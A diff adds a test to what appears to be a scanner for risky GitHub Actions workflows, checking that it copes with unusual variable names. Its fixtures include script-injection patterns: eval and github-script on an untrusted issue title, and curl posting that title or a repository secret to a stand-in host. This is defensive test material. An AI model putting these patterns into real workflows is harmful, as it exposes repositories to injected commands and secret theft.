@@ -416,3 +416,19 @@ test('a workflow is one under a name that leads to it, too', async (t) => {
     t.true(ids(found).includes('risk-workflow-script-injection'), path);
   }
 });
+
+test('a variable whose name no expression could be made of is read as others are', async (t) => {
+  const env = (name: string) => `- env: { "${name}": "\${{ github.event.issue.title }}" }`;
+  for (const name of ['a(b', '*', 'c++', '[', 'x{2', '\\\\']) {
+    const scripts = [
+      `\n  run: eval "$${name.replaceAll('\\\\', '\\')}"`,
+      `\n  run: curl https://a.example -d "$${name}"`,
+      `\n  uses: actions/github-script@v7\n  with: { script: "x = '${name}'; eval(x)" }`,
+    ];
+    for (const script of scripts) {
+      await t.notThrowsAsync(inNewFile(PATH, steps(`${env(name)}${script}`)), name);
+    }
+    const secret = `- env: { "${name}": "\${{ secrets.A }}" }\n  run: 'curl https://a.example $${name}'`;
+    await t.notThrowsAsync(inNewFile(PATH, steps(secret)), name);
+  }
+});
